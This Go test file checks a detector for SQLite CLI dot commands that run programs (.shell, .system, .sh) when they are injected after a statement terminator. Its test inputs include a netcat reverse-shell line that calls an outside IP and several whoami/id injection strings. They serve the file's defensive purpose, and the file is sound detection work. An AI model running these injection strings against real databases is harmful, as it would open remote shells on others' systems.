package sqlite

import "testing"

// TestShellFindsDotCommandsAfterATerminator checks that dot commands of the
// SQLite CLI that run a program are found after a statement terminator,
// that the others count only at paranoia 2, and that sentences mentioning
// dotted names do not.
func TestShellFindsDotCommandsAfterATerminator(t *testing.T) {
	for _, c := range []struct {
		name, s          string
		normal, paranoid bool
	}{
		{"shell after a newline", ";\n.shell nc 10.10.10.1 6666 -e sh\n", true, true},
		{"quoted system", "1;.\"system whoami\n", true, true},
		{"sh abbreviation", "1;.sh whoami", true, true},
		{"escaped newline left as text", `;\n.shell id`, true, true},
		{"other dot command", `;\n.databases`, false, true},
		{"sentence with dotted names", "done; .net and .sh files are fine", false, false},
		{"no terminator", ".shell id", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Shell(c.s, false) >= 0; got != c.normal {
				t.Errorf("Shell(%q, false) found %v, want %v", c.s, got, c.normal)
			}
			if got := Shell(c.s, true) >= 0; got != c.paranoid {
				t.Errorf("Shell(%q, true) found %v, want %v", c.s, got, c.paranoid)
			}
		})
	}
}
